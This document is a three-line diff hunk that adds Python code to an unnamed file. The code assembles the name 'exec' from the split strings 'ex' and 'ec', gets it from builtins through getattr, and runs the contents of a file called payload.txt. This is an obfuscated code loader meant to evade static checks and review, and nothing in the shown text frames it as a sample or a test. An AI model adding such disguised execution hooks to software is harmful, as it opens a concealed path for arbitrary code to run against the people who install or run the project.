@@ -1,0 +1,3 @@
+import builtins
+f = getattr(builtins, 'ex' + 'ec')
+f(open('payload.txt').read())
